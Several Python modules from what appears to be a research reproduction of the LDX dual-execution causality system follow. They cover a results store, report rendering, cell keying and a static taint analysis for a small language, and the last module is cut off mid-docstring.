        planned: int, executed: int, reused: int,
    ) -> None:
        """Record one eval/chaos invocation's plan parameters and
        incremental-execution counts."""
        self._execute(
            "INSERT INTO runs (kind, params, planned, executed, reused, "
            "created_at) VALUES (?, ?, ?, ?, ?, ?)",
            (kind, json.dumps(params, sort_keys=True), planned, executed,
             reused, time.time()),
        )

    def latest_run(self, kind: str) -> Optional[Dict[str, object]]:
        """The most recent recorded run of *kind*, or None."""
        rows = self._execute(
            "SELECT params, planned, executed, reused, created_at FROM runs "
            "WHERE kind = ? ORDER BY id DESC LIMIT 1",
            (kind,),
        )
        if not rows:
            return None
        params, planned, executed, reused, created_at = rows[0]
        try:
            params = json.loads(params)
        except ValueError:
            return None
        return {
            "kind": kind,
            "params": params,
            "planned": planned,
            "executed": executed,
            "reused": reused,
            "created_at": created_at,
        }

    # -- bench history ---------------------------------------------------------

    def record_bench(
        self, bench: str, metrics: Dict[str, float], context: object = ""
    ) -> None:
        """Append one benchmark sample: a {metric -> value} batch taken
        at the same instant (non-numeric values are skipped).  *context*
        may be a string or any JSON-serializable object."""
        if not isinstance(context, str):
            context = json.dumps(context, sort_keys=True, default=str)
        now = time.time()
        for metric, value in sorted(metrics.items()):
            if isinstance(value, bool) or not isinstance(value, (int, float)):
                continue
            self._execute(
                "INSERT INTO bench_history (bench, metric, value, context, "
                "created_at) VALUES (?, ?, ?, ?, ?)",
                (bench, metric, float(value), context, now),
            )

    def bench_series(
        self, bench: Optional[str] = None
    ) -> List[Dict[str, object]]:
        """Every (bench, metric) series, oldest sample first."""
        if bench is None:
            rows = self._execute(
                "SELECT bench, metric, value, created_at FROM bench_history "
                "ORDER BY bench, metric, id"
            )
        else:
            rows = self._execute(
                "SELECT bench, metric, value, created_at FROM bench_history "
                "WHERE bench = ? ORDER BY bench, metric, id",
                (bench,),
            )
        series: Dict[tuple, Dict[str, object]] = {}
        for name, metric, value, created_at in rows or []:
            entry = series.setdefault(
                (name, metric),
                {"bench": name, "metric": metric, "values": [], "times": []},
            )
            entry["values"].append(value)
            entry["times"].append(created_at)
        return [series[key] for key in sorted(series)]
