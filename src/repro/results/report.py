"""``repro report`` — render tables straight from the results store.

Three views, all sub-second because nothing executes:

* the **eval report** — Tables 1-4, Figure 6 and the mutation study
  (plus Table 5 when the recorded run checked the static oracle),
  reassembled from stored cells byte-identically to the ``repro eval``
  run that produced them;
* the **chaos report** — the latest recorded chaos sweep's rows;
* the **trend view** — every (bench, metric) series from the
  benchmark history, first/last/best/worst per series: the perf
  trajectory over runs as a query.

The eval and chaos views re-derive the exact cell plan from the
recorded run parameters and load each cell by key.  A missing cell is
a hard error naming the gap — a report must never silently render from
a partial store.
"""

from __future__ import annotations

from typing import List, Optional

from repro.eval.reporting import format_table
from repro.results.keys import spec_for_cell
from repro.results.store import ResultsError, ResultsStore


def _load_cells(store: ResultsStore, cells, what: str) -> List[object]:
    """Every cell's stored result, in plan order; raises on any gap."""
    specs = [spec_for_cell(cell) for cell in cells]
    found = store.get_cells([spec.key for spec in specs])
    results = [found.get(spec.key) for spec in specs]
    missing = [
        spec for spec, result in zip(specs, results) if result is None
    ]
    if missing:
        preview = ", ".join(
            f"{spec.kind}:{spec.workload}" for spec in missing[:5]
        )
        if len(missing) > 5:
            preview += ", ..."
        raise ResultsError(
            f"{len(missing)} of {len(specs)} {what} cells missing from "
            f"{store.path} ({preview}); run `repro {what} "
            f"--store-path {store.path}` to fill the store"
        )
    return results


def eval_report_from_store(store: ResultsStore) -> str:
    """The full eval report, byte-identical to the recorded run."""
    from repro.eval.parallel import (
        assemble_report,
        plan_eval_cells,
        plan_table5_cells,
    )

    run = store.latest_run("eval")
    if run is None:
        raise ResultsError(
            f"no eval run recorded in {store.path}; run `repro eval "
            f"--store-path {store.path}` first"
        )
    params = run["params"]
    table4_runs = int(params.get("table4_runs", 100))
    table4_chunk = int(params.get("table4_chunk", 10))
    cells = plan_eval_cells(table4_runs, table4_chunk)
    results = _load_cells(store, cells, "eval")
    report = assemble_report(cells, results, table4_runs)
    if params.get("check_static"):
        from repro.eval.table5 import render_table5

        rows = _load_cells(store, plan_table5_cells(), "eval")
        report += "\n\n\n" + render_table5(rows)
    return report


def chaos_report_from_store(store: ResultsStore) -> str:
    """The latest recorded chaos sweep, re-rendered from its cells."""
    from repro.eval.parallel import plan_chaos_cells
    from repro.eval.robustness import ChaosRow, render_chaos

    run = store.latest_run("chaos")
    if run is None:
        raise ResultsError(
            f"no chaos run recorded in {store.path}; run `repro chaos "
            f"--store-path {store.path}` first"
        )
    params = run["params"]
    cells = plan_chaos_cells(
        names=list(params["names"]),
        seeds=int(params["seeds"]),
        rate=float(params["rate"]),
        watchdog_deadline=float(params["watchdog_deadline"]),
        seed_chunk=int(params.get("seed_chunk", 5)),
    )
    results = _load_cells(store, cells, "chaos")
    rows: List[ChaosRow] = []
    by_name = {}
    for (kind, payload), chunk_row in zip(cells, results):
        name = payload[0]
        if name not in by_name:
            by_name[name] = chunk_row
            rows.append(chunk_row)
        else:
            by_name[name].merge(chunk_row)
    return render_chaos(rows, int(params["seeds"]), float(params["rate"]))


def _fmt(value: float) -> str:
    return f"{value:.4g}"


def trend_report(store: ResultsStore, bench: Optional[str] = None) -> str:
    """The perf trajectory: one row per recorded (bench, metric)."""
    series = store.bench_series(bench)
    if not series:
        scope = f" for {bench!r}" if bench else ""
        raise ResultsError(
            f"no benchmark history{scope} in {store.path}; benchmark runs "
            "and `repro serve-chaos` record samples automatically"
        )
    rows = []
    for entry in series:
        values = entry["values"]
        first, last = values[0], values[-1]
        if first:
            delta = f"{(last - first) / abs(first) * 100.0:+.1f}%"
        else:
            # No percentage from a zero baseline; don't fake +0.0%.
            delta = "n/a" if last != first else "+0.0%"
        rows.append([
            entry["bench"],
            entry["metric"],
            len(values),
            _fmt(first),
            _fmt(last),
            _fmt(min(values)),
            _fmt(max(values)),
            delta,
        ])
    return format_table(
        ["Bench", "Metric", "Samples", "First", "Last", "Min", "Max", "Delta"],
        rows,
        title="Perf trajectory: benchmark history over recorded runs",
    )
