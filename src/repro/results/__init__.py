"""Columnar results store + incremental reporting (``repro report``).

See :mod:`repro.results.store` for the storage model,
:mod:`repro.results.keys` for cell keying and
:mod:`repro.results.report` for the store-backed report renderers.
"""

from repro.results.keys import spec_for_cell
from repro.results.report import (
    chaos_report_from_store,
    eval_report_from_store,
    trend_report,
)
from repro.results.store import (
    DEFAULT_STORE_PATH,
    CellSpec,
    ResultsError,
    ResultsStore,
)

__all__ = [
    "DEFAULT_STORE_PATH",
    "CellSpec",
    "ResultsError",
    "ResultsStore",
    "chaos_report_from_store",
    "eval_report_from_store",
    "spec_for_cell",
    "trend_report",
]
