"""Cell-spec derivation: (kind, payload) cells -> content-addressed keys.

Every experiment cell produced by :mod:`repro.eval.parallel` maps to a
:class:`~repro.results.store.CellSpec` here.  The key is
:func:`repro.cache.result_cell_key` over:

* the MiniC **source** of the workload(s) the cell executes — editing
  a program orphans its cells, exactly like the artifact cache and the
  checkpoint store;
* the cell's **coordinates** (workload, variant, schedule-seed chunk,
  fault-seed chunk) — each slice of a sweep is its own cell;
* the cell's **config fingerprint** — the non-coordinate parameters
  (fault rate, watchdog deadline, heavy-baseline switch, ...) hashed
  separately and also stored as a column, so "same coordinates, new
  config" both misses the lookup *and* supersedes the stale row.

Interpreter backend and job count are deliberately excluded: reports
are byte-identical across both, so cells are shareable across them.
"""

from __future__ import annotations

from typing import Dict, Optional, Sequence, Tuple

from repro.cache import result_cell_key
from repro.results.store import CellSpec


def _sources_for(names: Sequence[str]) -> str:
    """The concatenated sources of *names*, in order (multi-workload
    cells depend on every program they run)."""
    from repro.workloads import get_workload

    return "\0".join(get_workload(name).source for name in names)


def _spec(
    kind: str,
    source: str,
    workload: str,
    variant: str,
    coords: Dict[str, object],
    config: Dict[str, object],
    schedule_seed: Optional[int] = None,
    fault_seed: Optional[int] = None,
) -> CellSpec:
    fingerprint = result_cell_key(source, {"kind": kind, **config})
    key = result_cell_key(source, {"kind": kind, **coords, **config})
    return CellSpec(
        key=key,
        kind=kind,
        workload=workload,
        variant=variant,
        schedule_seed=schedule_seed,
        fault_seed=fault_seed,
        fingerprint=fingerprint,
    )


def spec_for_cell(cell: Tuple[str, tuple]) -> CellSpec:
    """The :class:`CellSpec` identifying one eval/chaos cell."""
    kind, payload = cell
    if kind == "table1":
        (name,) = payload
        return _spec(kind, _sources_for([name]), name, "default",
                     {"workload": name}, {})
    if kind == "figure6":
        name, heavy = payload
        return _spec(kind, _sources_for([name]), name, "figure6",
                     {"workload": name}, {"heavy_baselines": bool(heavy)})
    if kind == "table2":
        (name,) = payload
        return _spec(kind, _sources_for([name]), name, "leak+noleak",
                     {"workload": name}, {})
    if kind == "table3":
        (name,) = payload
        return _spec(kind, _sources_for([name]), name, "table3",
                     {"workload": name}, {})
    if kind == "table4":
        name, start, stop = payload
        return _spec(kind, _sources_for([name]), name, "default",
                     {"workload": name, "start": start, "stop": stop}, {},
                     schedule_seed=start)
    if kind == "table5":
        (name,) = payload
        return _spec(kind, _sources_for([name]), name, "leak+noleak",
                     {"workload": name}, {})
    if kind == "mutation":
        strategy, names = payload
        return _spec(kind, _sources_for(names), "<study>", strategy,
                     {"strategy": strategy, "workloads": tuple(names)}, {})
    if kind == "serve_baseline":
        name, seed, deadline, fault_seed, fault_rate = payload
        return _spec(kind, _sources_for([name]), name, "leak",
                     {"workload": name, "seed": seed, "fault_seed": fault_seed},
                     {"deadline": deadline, "rate": fault_rate},
                     schedule_seed=seed, fault_seed=fault_seed)
    if kind == "serve_faultfree":
        name, seed = payload
        return _spec(kind, _sources_for([name]), name, "leak",
                     {"workload": name, "seed": seed}, {},
                     schedule_seed=seed)
    if kind == "chaos":
        # payload carries checkpoint_dir last; a storage *location*
        # never participates in result identity.
        name, seeds, rate, watchdog_deadline = payload[:4]
        return _spec(kind, _sources_for([name]), name, "chaos",
                     {"workload": name, "seeds": tuple(seeds)},
                     {"rate": rate, "watchdog_deadline": watchdog_deadline},
                     fault_seed=seeds[0] if seeds else None)
    raise ValueError(f"unknown cell kind {kind!r}")
