"""Interprocedural static taint: a sound over-approximation of LDX.

LDX answers "did source S causally influence sink K?" by running the
program twice with S mutated and diffing the sinks.  This pass answers
the same question without running anything, erring on the side of
"maybe": a register, global or I/O channel is *tainted* when a mutated
source value could possibly alter it, and a sink site is *flagged* when
a tainted value (or a tainted control decision) may reach it.

Soundness is the whole point — the set of flagged ``(function,
syscall)`` sink sites must contain every detection the dual-execution
engine can ever report for the same program and configuration, so the
engine uses this pass as an oracle (``--check-static``): a dynamic
causal verdict outside the static may-depend set is an engine bug, not
a program property.  That forces the rules to cover every divergence
channel the engine has: data flow, control flow (via the
Ferrante–Ottenstein–Warren dependence from
:mod:`repro.analysis.controldep`), environment channels (write a
tainted value to the filesystem, read it back later), crash divergence
(a trap in one run truncates every later sink) and schedule divergence
in threaded programs.

Taint is a four-point lattice per register, exploiting the engine's
mutator contract (every mutator perturbs only alphanumeric characters
and preserves string length — see :mod:`repro.core.mutation`):

* ``CLEAN`` — equal in both runs.
* ``MUTATED`` — differs only the way a mutator can make it differ:
  alphanumeric content; length and separator/framing characters are
  intact.  ``str_split`` of such a value yields the same field count in
  both runs, and indexing *into* it cannot trap in one run only.
* ``TAINTED`` — content arbitrary (e.g. ``chr`` of a mutated int can
  turn a letter into a separator) but shape — length, list size —
  still equal, so indexing by an untainted index is still two-run safe
  while structure-sensitive operations (``str_split``,
  ``str_replace``, ``str_strip``) no longer are.
* ``SHAPED`` — even the shape may differ (built under divergent
  control, length driven by a tainted count, read from a tainted
  channel): indexing through it may trap in exactly one run, which is a
  crash-divergence channel (``may_abort``).

Every rule moves values monotonically up this lattice; per-builtin
transfer functions encode which operations launder ``MUTATED`` into
``TAINTED`` (arbitrary-content producers) or into ``SHAPED``
(length/shape producers like ``to_str`` of a mutated int, whose string
length differs between ``9`` and ``10``).
"""

from __future__ import annotations

from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from repro.analysis.controldep import transitive_control_dependence
from repro.analysis.lockset import (
    LocksetReport,
    address_taken,
    analyze_locksets,
    funcref_targets,
)
from repro.cfg.callgraph import CallGraph
from repro.ir import instructions as ins
from repro.ir.function import IRModule
from repro.lang.intrinsics import SYSCALL_BUILTINS

# The taint lattice (monotone, join = max).
CLEAN = 0
MUTATED = 1  # alnum-only divergence; structure and length intact
TAINTED = 2  # arbitrary content; shape (length) intact
SHAPED = 3  # even length/shape may diverge

LEVEL_NAMES = {CLEAN: "clean", MUTATED: "mutated", TAINTED: "tainted", SHAPED: "shaped"}

# Syscalls whose results carry configured-source data.
_SOURCE_SYSCALLS = {
    "file": frozenset({"read", "read_line"}),
    "network": frozenset({"recv"}),
    "env": frozenset({"getenv"}),
    "label": frozenset({"source_read"}),
}


class StaticSeeds:
    """What starts tainted and what counts as a sink, derived from an
    :class:`~repro.core.config.LdxConfig` plus the lockset report."""

    __slots__ = ("source_syscalls", "sink_syscalls", "racy_globals", "shared_globals")

    def __init__(
        self,
        source_syscalls: FrozenSet[str],
        sink_syscalls: FrozenSet[str],
        racy_globals: FrozenSet[str] = frozenset(),
        shared_globals: FrozenSet[str] = frozenset(),
    ) -> None:
        self.source_syscalls = source_syscalls
        self.sink_syscalls = sink_syscalls
        self.racy_globals = racy_globals
        self.shared_globals = shared_globals

    def fingerprint(self) -> str:
        """Stable identity of the seed configuration (for cache keys).

        Racy/shared globals are derived from the program text itself,
        so the syscall name sets alone determine the analysis given a
        source."""
        return (
            "src=" + ",".join(sorted(self.source_syscalls))
            + ";sink=" + ",".join(sorted(self.sink_syscalls))
        )

    @classmethod
    def from_config(
        cls, config, lockset_report: Optional[LocksetReport] = None
    ) -> "StaticSeeds":
        """Sound projection of a dynamic config onto syscall names.

        Resource identity (which file path, which connection, which env
        name) is a runtime notion; statically every syscall of a
        configured source's kind may return mutated data.
        """
        sources: Set[str] = set()
        spec = config.sources
        if spec.file_paths or spec.stdin:
            sources |= _SOURCE_SYSCALLS["file"]
        if spec.network:
            sources |= _SOURCE_SYSCALLS["network"]
        if spec.env_names:
            sources |= _SOURCE_SYSCALLS["env"]
        if spec.labels:
            sources |= _SOURCE_SYSCALLS["label"]
        sinks: Set[str] = set(config.sinks.syscall_names)
        sinks.add("sink_observe")  # labels resolve at runtime: keep all
        if config.sinks.malloc_sinks:
            sinks.add("malloc")
        racy = lockset_report.racy_globals if lockset_report else frozenset()
        shared = lockset_report.shared_globals if lockset_report else frozenset()
        return cls(frozenset(sources), frozenset(sinks), racy, shared)


class StaticCausality:
    """Result of the taint fixpoint: the static may-depend relation."""

    __slots__ = (
        "flagged",
        "sink_sites",
        "tainted_globals",
        "tainted_channels",
        "skip_functions",
        "may_abort",
        "abort_reasons",
        "seeds",
    )

    def __init__(
        self,
        flagged: FrozenSet[Tuple[str, str]],
        sink_sites: FrozenSet[Tuple[str, str]],
        tainted_globals: FrozenSet[str],
        tainted_channels: FrozenSet[str],
        skip_functions: FrozenSet[str],
        may_abort: bool,
        abort_reasons: Tuple[str, ...],
        seeds: StaticSeeds,
    ) -> None:
        self.flagged = flagged
        self.sink_sites = sink_sites
        self.tainted_globals = tainted_globals
        self.tainted_channels = tainted_channels
        self.skip_functions = skip_functions
        self.may_abort = may_abort
        self.abort_reasons = abort_reasons
        self.seeds = seeds

    def may_depend(self, function: str, syscall: str) -> bool:
        """May the configured sources influence sink *syscall* in
        *function*?  Every dynamic detection must satisfy this."""
        if self.may_abort:
            return True
        return (function, syscall) in self.flagged

    def causality_possible(self) -> bool:
        """Any sink statically reachable from the sources at all?"""
        return self.may_abort or bool(self.flagged)


def _channel_of(name: str) -> Optional[Tuple[str, str]]:
    """(channel, direction) of a syscall, or None for non-I/O."""
    category = SYSCALL_BUILTINS.get(name, "")
    if category in ("file", "file-in", "file-out"):
        direction = "in" if category == "file-in" else "out"
        return ("fs", direction)
    if category in ("net", "net-in", "net-out"):
        direction = "in" if category == "net-in" else "out"
        return ("net", direction)
    return None


def _builtin_result_level(name: str, args: List[str], level) -> int:
    """Lattice level of a pure builtin's result, given ``level(reg)``.

    Encodes which builtins preserve the mutator contract and which
    launder ``MUTATED`` into arbitrary content or divergent shape.
    """
    levels = [level(a) for a in args]
    peak = max(levels, default=CLEAN)
    if peak == CLEAN:
        return CLEAN

    if name in ("len", "is_nil", "is_str", "is_int", "is_list", "type_of"):
        # Shape/type observers: equal in both runs unless the shape
        # itself may diverge.
        return TAINTED if peak >= SHAPED else CLEAN
    if name == "chr":
        # A perturbed code point maps to an arbitrary character —
        # possibly a separator: content no longer mutator-shaped.
        return max(peak, TAINTED)
    if name == "to_str":
        # str(9) and str(10) have different lengths.
        return max(peak, SHAPED)
    if name in ("str_repeat", "list_fill"):
        # Tainted repeat counts change the length outright.
        count_peak = max(levels[1:], default=CLEAN) if name == "str_repeat" else peak
        if count_peak >= MUTATED:
            return SHAPED
        return peak
    if name in ("substr", "slice"):
        # Tainted bounds select different-length pieces.
        if max(levels[1:], default=CLEAN) >= MUTATED:
            return SHAPED
        return peak
    if name == "str_split":
        # Separator structure of a MUTATED value is intact: the field
        # count is two-run equal.  Arbitrary content (or a tainted
        # separator argument) is not.
        if peak >= TAINTED:
            return SHAPED
        return peak
    if name in ("str_replace", "str_strip"):
        # Both are structure-sensitive even on MUTATED data: the
        # replaced pattern / stripped whitespace may match differently.
        if name == "str_replace":
            return SHAPED
        return SHAPED if peak >= TAINTED else peak
    if name in ("parse_int", "ord", "hash32", "str_find", "index_of",
                "min", "max", "abs", "i32_add", "i32_mul", "i32_sub"):
        # Scalar results: shape is meaningless, cap at TAINTED.
        return min(peak, TAINTED)
    # Everything else (concat, str_join, str_upper, push results, …)
    # preserves its inputs' divergence class.
    return peak


# Builtins that mutate their first argument in place.
_MUTATING_BUILTINS = frozenset({"push", "pop", "sort", "reverse"})


def static_causality(
    module: IRModule,
    seeds: StaticSeeds,
    callgraph: Optional[CallGraph] = None,
) -> StaticCausality:
    """Run the interprocedural taint fixpoint over *module*."""
    callgraph = callgraph if callgraph is not None else CallGraph(module)
    global_names = frozenset(module.global_values)
    taken = address_taken(module)
    threaded = any(
        isinstance(instr, ins.Syscall) and instr.name == "thread_spawn"
        for function in module.functions.values()
        for instr in function.instrs
    )

    cdep: Dict[str, Dict[int, Set[int]]] = {
        name: transitive_control_dependence(function)
        for name, function in module.functions.items()
    }

    # Lattice state.  Globals share one map; locals are per function.
    global_levels: Dict[str, int] = {
        name: SHAPED for name in seeds.racy_globals & global_names
    }
    local_levels: Dict[str, Dict[str, int]] = {
        name: {} for name in module.functions
    }
    tainted_channels: Set[str] = set()
    skip_functions: Set[str] = set()
    ret_levels: Dict[str, int] = {}
    flagged: Set[Tuple[str, str]] = set()
    sink_sites: Set[Tuple[str, str]] = set()
    may_abort = False
    abort_reasons: List[str] = []
    abort_seen: Set[str] = set()

    for name, function in module.functions.items():
        for instr in function.instrs:
            if isinstance(instr, ins.Syscall) and instr.name in seeds.sink_syscalls:
                sink_sites.add((name, instr.name))

    changed = True

    def record_abort(reason: str) -> None:
        nonlocal may_abort, changed
        if reason in abort_seen:
            return
        abort_seen.add(reason)
        abort_reasons.append(reason)
        may_abort = True
        changed = True

    def spawn_targets(fn: str, register: str) -> Set[str]:
        resolved = funcref_targets(module.functions[fn], register)
        if resolved is None:
            return set(taken)
        return {t for t in resolved if t in module.functions}

    while changed:
        changed = False
        any_control_taint = False
        for name, function in module.functions.items():
            instrs = function.instrs
            fn_cdep = cdep[name]
            locals_here = local_levels[name]

            def level(register: str) -> int:
                if register in global_names:
                    return global_levels.get(register, CLEAN)
                return locals_here.get(register, CLEAN)

            def raise_to(register: str, new_level: int) -> None:
                nonlocal changed
                if new_level <= CLEAN:
                    return
                if register in global_names:
                    if global_levels.get(register, CLEAN) < new_level:
                        global_levels[register] = new_level
                        changed = True
                elif locals_here.get(register, CLEAN) < new_level:
                    locals_here[register] = new_level
                    changed = True

            # Control-tainted instruction indices for this iteration.
            if name in skip_functions:
                control_tainted = set(range(len(instrs)))
            else:
                control_tainted = set()
                tainted_branches = {
                    index
                    for index, instr in enumerate(instrs)
                    if isinstance(instr, ins.CJump) and level(instr.cond) >= MUTATED
                }
                if tainted_branches:
                    for index in range(len(instrs)):
                        if fn_cdep[index] & tainted_branches:
                            control_tainted.add(index)
            if control_tainted:
                any_control_taint = True

            for index, instr in enumerate(instrs):
                ct = index in control_tainted
                if isinstance(instr, (ins.Const, ins.Move, ins.Binop, ins.Unop,
                                      ins.LoadIndex, ins.NewList)):
                    dst = instr.defs()
                    if dst is not None:
                        peak = max(
                            (level(u) for u in instr.uses()), default=CLEAN
                        )
                        if ct:
                            # Which definition executes is decided by a
                            # tainted branch: the value is arbitrary.
                            peak = SHAPED
                        raise_to(dst, peak)
                    if isinstance(instr, ins.Binop) and instr.op in ("/", "%"):
                        if level(instr.right) >= MUTATED:
                            record_abort(
                                f"{name}@{index}: tainted divisor in"
                                f" {instr.op!r} may be zero in one run"
                            )
                    if isinstance(instr, ins.LoadIndex):
                        if level(instr.index) >= MUTATED:
                            record_abort(
                                f"{name}@{index}: tainted index may be"
                                " out of range in one run"
                            )
                        elif level(instr.base) >= SHAPED:
                            record_abort(
                                f"{name}@{index}: indexing a value whose"
                                " shape may diverge"
                            )
                elif isinstance(instr, ins.StoreIndex):
                    if ct:
                        raise_to(instr.base, SHAPED)
                    else:
                        raise_to(
                            instr.base,
                            max(level(instr.src), level(instr.index)),
                        )
                    if level(instr.index) >= MUTATED:
                        record_abort(
                            f"{name}@{index}: tainted store index may be"
                            " out of range in one run"
                        )
                    elif level(instr.base) >= SHAPED:
                        record_abort(
                            f"{name}@{index}: storing through a value"
                            " whose shape may diverge"
                        )
                elif isinstance(instr, ins.CallBuiltin):
                    dst = instr.defs()
                    result = _builtin_result_level(instr.name, instr.args, level)
                    if ct:
                        result = SHAPED
                    if dst is not None:
                        raise_to(dst, result)
                    if instr.name in _MUTATING_BUILTINS and instr.args:
                        # push/pop/sort/reverse mutate their first
                        # argument.  Same call count in both runs keeps
                        # the shape; divergent control does not.
                        if ct:
                            raise_to(instr.args[0], SHAPED)
                        else:
                            raise_to(
                                instr.args[0],
                                max(level(a) for a in instr.args),
                            )
                elif isinstance(instr, (ins.CallDirect, ins.CallIndirect)):
                    if isinstance(instr, ins.CallDirect):
                        targets = {instr.func} & set(module.functions)
                        callee_level = CLEAN
                    else:
                        targets = spawn_targets(name, instr.callee)
                        callee_level = level(instr.callee)
                    for target in targets:
                        callee = module.functions[target]
                        callee_locals = local_levels[target]
                        if ct or callee_level >= MUTATED:
                            if target not in skip_functions:
                                skip_functions.add(target)
                                changed = True
                        for arg, param in zip(instr.args, callee.params):
                            # Forward: the argument's class reaches the
                            # parameter (arbitrary under divergent
                            # control / target).
                            forward = level(arg)
                            if ct or callee_level >= MUTATED:
                                forward = SHAPED
                            if param in global_names:
                                raise_to(param, forward)
                            elif callee_locals.get(param, CLEAN) < forward:
                                callee_locals[param] = forward
                                changed = True
                            # Backward: the callee may mutate a list
                            # argument in place.
                            back = (
                                global_levels.get(param, CLEAN)
                                if param in global_names
                                else callee_locals.get(param, CLEAN)
                            )
                            raise_to(arg, back)
                        result = ret_levels.get(target, CLEAN)
                        if ct or callee_level >= MUTATED:
                            result = SHAPED
                        raise_to(instr.dst, result)
                elif isinstance(instr, ins.Syscall):
                    sc_name = instr.name
                    arg_peak = max(
                        (level(a) for a in instr.args), default=CLEAN
                    )
                    site_tainted = ct or arg_peak >= MUTATED
                    dst = instr.defs()
                    if sc_name == "thread_spawn" and instr.args:
                        for target in spawn_targets(name, instr.args[0]):
                            callee = module.functions[target]
                            if ct and target not in skip_functions:
                                skip_functions.add(target)
                                changed = True
                            if callee.params and site_tainted:
                                param = callee.params[0]
                                target_locals = local_levels[target]
                                if param in global_names:
                                    raise_to(param, SHAPED)
                                elif target_locals.get(param, CLEAN) < SHAPED:
                                    target_locals[param] = SHAPED
                                    changed = True
                    if sc_name == "exit" and site_tainted:
                        # Divergent (or divergently-reached) process
                        # exit truncates every later sink anywhere.
                        record_abort(
                            f"{name}@{index}: exit() under tainted"
                            " control or with tainted status"
                        )
                    if sc_name in seeds.source_syscalls and dst is not None:
                        # A directly mutated value keeps its length and
                        # separator structure: the mutator contract.
                        raise_to(dst, MUTATED)
                    channel = _channel_of(sc_name)
                    if channel is not None:
                        chan, direction = channel
                        if site_tainted and chan not in tainted_channels:
                            tainted_channels.add(chan)
                            changed = True
                        if direction == "in" and chan in tainted_channels:
                            # Reading data the program wrote divergently
                            # (or through a divergently-positioned
                            # handle): arbitrary result.
                            if dst is not None:
                                raise_to(dst, SHAPED)
                            site_tainted = True
                    if site_tainted:
                        if dst is not None:
                            # A divergent syscall may return arbitrarily
                            # different data (lengths included).
                            raise_to(dst, SHAPED)
                        if sc_name in seeds.sink_syscalls:
                            if (name, sc_name) not in flagged:
                                flagged.add((name, sc_name))
                                changed = True
                elif isinstance(instr, ins.Ret):
                    current = ret_levels.get(name, CLEAN)
                    result = current
                    if ct:
                        # Which return executes is branch-decided.
                        result = SHAPED
                    elif instr.src is not None:
                        result = max(result, level(instr.src))
                    if result > current:
                        ret_levels[name] = result
                        changed = True

        # Schedule divergence: once control flow anywhere is tainted in
        # a threaded program, timing (and with it lock-acquisition
        # order) may diverge — every conflicting shared global, even a
        # consistently locked one, may end up with different contents.
        if threaded and (any_control_taint or may_abort):
            for shared in seeds.shared_globals & global_names:
                if global_levels.get(shared, CLEAN) < SHAPED:
                    global_levels[shared] = SHAPED
                    changed = True

    if may_abort:
        flagged |= sink_sites

    tainted_globals = frozenset(
        name for name, lvl in global_levels.items() if lvl >= MUTATED
    )
    return StaticCausality(
        flagged=frozenset(flagged),
        sink_sites=frozenset(sink_sites),
        tainted_globals=tainted_globals,
        tainted_channels=frozenset(tainted_channels),
        skip_functions=frozenset(skip_functions),
        may_abort=may_abort,
        abort_reasons=tuple(abort_reasons),
        seeds=seeds,
    )


def causality_for_module(
    module: IRModule,
    config,
    callgraph: Optional[CallGraph] = None,
) -> Tuple[StaticCausality, LocksetReport]:
    """Convenience wrapper: locksets then taint, sharing one callgraph."""
    callgraph = callgraph if callgraph is not None else CallGraph(module)
    locksets = analyze_locksets(module, callgraph)
    seeds = StaticSeeds.from_config(config, locksets)
    return static_causality(module, seeds, callgraph), locksets
