"""Static analysis of MiniC programs — the never-runs-anything layer.

Everything else in this reproduction *executes* programs (natively,
instrumented, dual, fault-injected).  This package analyzes them
statically instead:

* :mod:`repro.analysis.dataflow` — a generic worklist dataflow
  framework (forward/backward, may/must) over the instruction-granular
  CFG, with reaching-definitions and live-variables instances;
* :mod:`repro.analysis.controldep` — control dependence via
  postdominators (Ferrante–Ottenstein–Warren);
* :mod:`repro.analysis.taint` — an interprocedural static
  taint/dependence pass computing a *sound over-approximation* of
  source→sink causality, the oracle LDX's dynamic verdicts are checked
  against;
* :mod:`repro.analysis.lockset` — lockset-based static race detection
  for the ``thread_spawn``/``mutex_*`` intrinsics;
* :mod:`repro.analysis.lint` — diagnostics (never-read variables,
  maybe-uninitialized uses, unreachable code, races);
* :mod:`repro.analysis.relevance` — the paper's Algorithm 2:
  sink-relevance classification of every instruction from the outcome
  sinks backwards, driving counter elision and fusion widening in the
  threaded backend;
* :mod:`repro.analysis.analyzer` — the cacheable per-program summary
  behind ``repro analyze`` and ``repro eval --check-static``.
"""

from repro.analysis.analyzer import (
    ProgramAnalysis,
    analyze_module,
    analyze_source,
    analyze_workload,
    render_analysis,
)
from repro.analysis.controldep import control_dependence
from repro.analysis.dataflow import (
    BACKWARD,
    FORWARD,
    MAY,
    MUST,
    DataflowProblem,
    LiveVariables,
    ReachingDefinitions,
    solve,
)
from repro.analysis.lint import Diagnostic, lint_module
from repro.analysis.relevance import (
    FunctionRelevance,
    ModuleRelevance,
    RegionSummary,
    compute_relevance,
)
from repro.analysis.lockset import LocksetReport, analyze_locksets
from repro.analysis.taint import StaticCausality, StaticSeeds, static_causality

__all__ = [
    "BACKWARD",
    "FORWARD",
    "MAY",
    "MUST",
    "DataflowProblem",
    "Diagnostic",
    "FunctionRelevance",
    "ModuleRelevance",
    "RegionSummary",
    "LiveVariables",
    "LocksetReport",
    "ProgramAnalysis",
    "ReachingDefinitions",
    "StaticCausality",
    "StaticSeeds",
    "analyze_locksets",
    "analyze_module",
    "analyze_source",
    "analyze_workload",
    "compute_relevance",
    "control_dependence",
    "lint_module",
    "render_analysis",
    "solve",
    "static_causality",
]
