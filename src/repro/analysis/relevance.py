"""Sink-relevance analysis: the paper's Algorithm 2 as a classifier.

LDX's instrumentation is only *needed* where it can change an outcome:
the paper's Algorithm 2 observes that counting can be elided on
instructions that never influence a sink.  This module computes that
classification statically.  Starting from every outcome sink — each
``Syscall`` site is one: output/network/FS effects, aborts (``exit``),
schedule-divergence points (``thread_*``/locks), and the explicit
``sink_observe`` annotation — it propagates *backwards* over the
may-depend relation:

* **data dependence** — an instruction is demanded when a value it
  defines (or mutates in place) can flow into a demanded use, including
  through list aliasing, module globals, call arguments, returned
  values and mutating builtins (``push``/``pop``/``list_fill``);
* **control dependence** — the branches governing whether a relevant
  instruction executes (via :mod:`repro.analysis.controldep`, which
  rides :mod:`repro.cfg.dominators`) are themselves relevant;
* **call reachability** — a call site that can reach observable work
  (any relevant instruction in any transitive callee) is relevant.

Everything not reached is **elidable**: provably outside the static
may-depend set of every sink.  The classification is deliberately a
pure function of the IR module — no seed configuration — so it can ride
the instrumentation plan through the artifact cache unchanged.

Three consumers exist, and none may change observables:

* the instrumenter (:mod:`repro.instrument.pipeline`) consults the
  edge-level refinement below (:func:`prunable_counter_edges`) at
  plan-construction time and replaces the ``CounterAdd`` runs on
